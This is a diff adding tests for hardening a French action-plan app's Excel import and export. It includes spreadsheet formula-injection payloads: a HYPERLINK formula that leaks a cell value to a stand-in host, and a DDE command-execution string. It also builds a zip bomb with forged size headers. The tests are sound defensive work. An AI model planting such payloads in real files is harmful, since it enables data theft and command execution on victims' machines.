@@ -5,7 +5,9 @@ import { loadActor } from "../../lib/auth/actor";
 import { requireTerritory } from "../../lib/auth/scope";
 import { emptyWorkbook, SHEETS } from "../../lib/fiches-action/excel-layout";
 import { exportPlan } from "../../lib/fiches-action/export-plan";
-import { importPlan } from "../../lib/fiches-action/import-plan";
+import { importPlan, importSlots } from "../../lib/fiches-action/import-plan";
+import { IMPORT_LIMITS, type WorkbookLimits } from "../../lib/fiches-action/read-workbook";
+import { writeZip } from "../../lib/files/zip";
 import { seedDemoData } from "../../prisma/seed";
 import { requireTestDatabase } from "../helpers/db";
 
@@ -193,5 +195,152 @@ describe("Excel export and import of the action plan", () => {
     await expect(importPlan(db, vosges, { territoryId, conventionId: sourceConventionId, file })).rejects.toMatchObject(
       { code: "NOT_FOUND" },
     );
+  });
+
+  it("guards text that a spreadsheet could take for a formula, and the round trip stays identical", async () => {
+    const scope = await requireTerritory(db, officer, { id: territoryId }, "territory.read");
+    const hostile = {
+      Titre: '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez ici")',
+      Constats: "=cmd|' /C calc'!A0",
+      "Objectif général": "+33 1 23 45 67 89",
+      "Objectifs opérationnels": "-réduire les délais",
+      Description: "@SUM(1+1)",
+      "Public visé": "'=déjà entre guillemets",
+    };
+    const source = await newConvention();
+    const file = await workbookWith((wb) => wb.getWorksheet("Fiches")!.addRow(ficheRow("7.1", hostile)));
+    expect(await importPlan(db, officer, { territoryId, conventionId: source, file })).toMatchObject({ ok: true });
+    // A leading quote in the file is read as the export's guard; a text that really starts with one is kept.
+    await db.ficheAction.updateMany({
+      where: { conventionId: source },
+      data: { targetPublic: hostile["Public visé"] },
+    });
+    const fiche = await db.ficheAction.findFirstOrThrow({ where: { conventionId: source } });
+    expect(fiche).toMatchObject({
+      title: hostile.Titre,
+      findings: hostile.Constats,
+      generalObjective: hostile["Objectif général"],
+      operationalObjectives: hostile["Objectifs opérationnels"],
+      description: hostile.Description,
+      targetPublic: hostile["Public visé"],
+    });
+
+    const first = await exportPlan(db, scope, source);
+    const exported = (await sheetsOf(first)).Fiches[1] as unknown[];
+    const cell = (column: string) => exported[SHEETS.fiches.columns.indexOf(column as never)];
+    for (const [column, text] of Object.entries(hostile)) expect(cell(column)).toBe(`'${text}`);
+    expect(cell("Numéro")).toBe("7.1");
+    expect((await sheetsOf(first)).Fiches[0]).toEqual([...SHEETS.fiches.columns]);
+
+    const target = await newConvention();
+    expect(await importPlan(db, officer, { territoryId, conventionId: target, file: first })).toMatchObject({
+      ok: true,
+      created: 1,
+    });
+    expect(await db.ficheAction.findFirstOrThrow({ where: { conventionId: target } })).toMatchObject({
+      title: hostile.Titre,
+      targetPublic: hostile["Public visé"],
+    });
+    expect(await sheetsOf(await exportPlan(db, scope, target))).toEqual(await sheetsOf(first));
+  });
+});
+
+describe("Bounded reading of an imported workbook", () => {
+  const refused = async (file: Uint8Array, limits: Partial<WorkbookLimits>, message: string | RegExp) => {
+    const target = await newConvention();
+    const result = await importPlan(
+      db,
+      officer,
+      { territoryId, conventionId: target, file },
+      {
+        ...IMPORT_LIMITS,
+        ...limits,
+      },
+    );
+    expect(result.ok).toBe(false);
+    const errors = result.ok ? [] : result.errors;
+    expect(errors).toHaveLength(1);
+    expect(errors[0]).toMatchObject({ sheet: "—", row: 0, column: "—" });
+    expect(errors[0].message).toMatch(message);
+    expect(await db.ficheAction.count({ where: { conventionId: target } })).toBe(0);
+    expect(await db.axis.count({ where: { conventionId: target } })).toBe(0);
+  };
+  const fiches = (count: number, patch: Partial<Record<string, string>> = {}) =>
+    workbookWith((wb) => {
+      for (let i = 1; i <= count; i++) wb.getWorksheet("Fiches")!.addRow(ficheRow(`8.${i}`, patch));
+    });
+  const zip = (limits: Partial<WorkbookLimits["zip"]>) => ({ zip: { ...IMPORT_LIMITS.zip, ...limits } });
+
+  it("refuses more rows per sheet than the limit, naming the sheet", async () => {
+    await refused(await fiches(4), { maxRows: 3 }, "Le fichier dépasse la limite de 3 lignes dans la feuille Fiches.");
+    const target = await newConvention();
+    expect(
+      await importPlan(
+        db,
+        officer,
+        { territoryId, conventionId: target, file: await fiches(3) },
+        {
+          ...IMPORT_LIMITS,
+          maxRows: 3,
+        },
+      ),
+    ).toMatchObject({ ok: true, created: 3 });
+  });
+
+  it("refuses more filled cells than the limit", async () => {
+    await refused(await fiches(3), { maxCells: 20 }, "Le fichier dépasse la limite de 20 cellules remplies.");
+  });
+
+  it("refuses a cell longer than the limit, naming the sheet and the cell", async () => {
+    await refused(
+      await fiches(1, { Description: "x".repeat(61) }),
+      { maxCellChars: 60 },
+      "Le fichier dépasse la limite de 60 caractères par cellule (feuille Fiches, cellule Q2).",
+    );
+  });
+
+  it("refuses an archive with too many entries, or entries too large once inflated, before inflating them", async () => {
+    const file = await fiches(1);
+    await refused(file, zip({ maxEntries: 3 }), /^Le fichier contient trop d'éléments \(\d+ ; 3 au plus\)\.$/);
+    await refused(
+      file,
+      zip({ maxEntryBytes: (name) => (name.startsWith("xl/worksheets/") ? 100 : 1_000_000) }),
+      /^Le fichier dépasse la limite de 0 Mo pour l'élément « xl\/worksheets\/sheet\d\.xml »/,
+    );
+    await refused(file, zip({ maxTotalBytes: 5_000 }), "Le fichier dépasse la limite de 0 Mo une fois décompressé.");
+  });
+
+  it("counts the bytes really inflated: an entry lying about its size is refused", async () => {
+    const bomb = writeZip([
+      { name: "[Content_Types].xml", data: "<Types/>" },
+      { name: "xl/sharedStrings.xml", data: "<sst>" + "A".repeat(2_000_000) + "</sst>" },
+    ]);
+    // Rewrite the declared size of the shared strings (central directory and local header) to 1 KB.
+    const lying = Buffer.from(bomb);
+    const name = Buffer.from("xl/sharedStrings.xml");
+    for (let at = lying.indexOf(name); at >= 0; at = lying.indexOf(name, at + 1)) {
+      const header = lying.readUInt32LE(at - 46) === 0x02014b50 ? at - 46 : at - 30;
+      lying.writeUInt32LE(1024, header + (header === at - 46 ? 24 : 22));
+    }
+    await refused(
+      new Uint8Array(lying),
+      {},
+      "Le fichier est refusé : l'élément « xl/sharedStrings.xml » se décompresse au-delà de la taille qu'il déclare.",
+    );
+  });
+
+  it("refuses a further import at once while two are running", async () => {
+    const held = [importSlots.tryAcquire(), importSlots.tryAcquire()];
+    try {
+      expect(held.every(Boolean)).toBe(true);
+      await refused(await fiches(1), {}, "Trop d'imports sont en cours sur le serveur : réessayez dans une minute.");
+    } finally {
+      for (const release of held) release?.();
+    }
+    const target = await newConvention();
+    expect(await importPlan(db, officer, { territoryId, conventionId: target, file: await fiches(1) })).toMatchObject({
+      ok: true,
+      created: 1,
+    });
   });
 });
